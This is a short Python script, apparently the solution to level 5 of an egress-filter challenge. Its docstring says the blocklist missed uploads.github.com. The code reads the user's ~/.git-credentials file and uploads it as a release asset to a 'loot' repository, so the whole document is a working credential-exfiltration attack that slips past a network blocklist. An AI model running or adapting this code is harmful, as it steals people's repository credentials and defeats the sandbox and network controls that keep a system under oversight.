"""Level 5: the blocklist forgot uploads.github.com, which stores release assets for anyone."""
import urllib.request

creds = open("/home/user/.git-credentials").read()
url = "https://uploads.github.com/repos/me/loot/releases/1/assets?name=creds.txt"
req = urllib.request.Request(url, data=creds.encode(), method="POST", headers={"Content-Type": "text/plain"})
print(urllib.request.urlopen(req, timeout=5).status)
